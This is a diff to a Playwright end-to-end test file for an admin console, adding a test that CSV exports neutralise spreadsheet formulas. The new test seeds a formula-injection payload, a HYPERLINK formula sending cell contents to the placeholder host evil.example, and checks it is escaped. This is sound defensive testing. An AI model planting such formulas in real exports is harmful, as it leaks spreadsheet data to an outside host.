@@ -3,6 +3,7 @@
  * and back, the boolean filter, hidden columns kept in the URL, and an operator's segment toggle on the insights
  * page — each checked against SQL on the same database.
  */
+import { readFile } from 'node:fs/promises';
 import { expect, test, type Page } from '@playwright/test';
 import { signIn } from './support/auth';
 import { ensureUser, withDb } from './support/db';
@@ -100,4 +101,26 @@ test('an operator deactivates a segment from the insights page; the row and the 
     (await client.query(`SELECT actor_email, before, after FROM console.audit_event WHERE action = 'user_segments.deactivate' AND target = 'user_segments:e2e-seg-001' ORDER BY id DESC LIMIT 1`)).rows[0],
   );
   expect(audit).toMatchObject({ actor_email: E2E.operator.email, before: { active: true }, after: { active: false } });
+});
+
+test('an exported cell a spreadsheet would run as a formula is neutralised', async ({ page }) => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+  await withDb((client) =>
+    client.query(
+      `INSERT INTO scheduled_content (content_id, channel, scheduled_time, status, error_message) VALUES ('e2e-csv-formula', 'email', localtimestamp, 'failed', $1)
+       ON CONFLICT (content_id) DO UPDATE SET error_message = EXCLUDED.error_message`,
+      [formula],
+    ),
+  );
+  try {
+    await signIn(page, E2E.admin);
+    await page.goto('/tables/scheduled_content?f=content_id%3Aeq%3Ae2e-csv-formula');
+    const downloadPromise = page.waitForEvent('download');
+    await page.getByRole('link', { name: 'Export CSV' }).click();
+    const csv = await readFile((await (await downloadPromise).path())!, 'utf8');
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  } finally {
+    await withDb((client) => client.query(`DELETE FROM scheduled_content WHERE content_id = 'e2e-csv-formula'`));
+  }
 });
